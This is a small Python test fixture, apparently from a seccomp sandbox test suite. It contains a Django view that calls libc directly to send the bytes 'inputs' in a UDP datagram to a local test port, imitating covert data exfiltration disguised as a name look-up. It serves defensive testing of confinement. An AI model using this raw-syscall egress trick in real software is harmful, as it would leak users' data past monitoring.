"""Sends what it learnt in a datagram, as a look-up of a name would.

Layer: seccomp
Without: no confinement
Check: word
Proof: udp
"""

import ctypes
import struct

import target
from django.http import HttpResponse


async def view(request):
    libc = ctypes.CDLL(None)
    address = struct.pack("=H", 2) + struct.pack(">H4B8x", target.UDP[1], 127, 0, 0, 1)
    libc.sendto(libc.socket(2, 2, 0), b"inputs", 6, 0, address, len(address))
    return HttpResponse("stub")
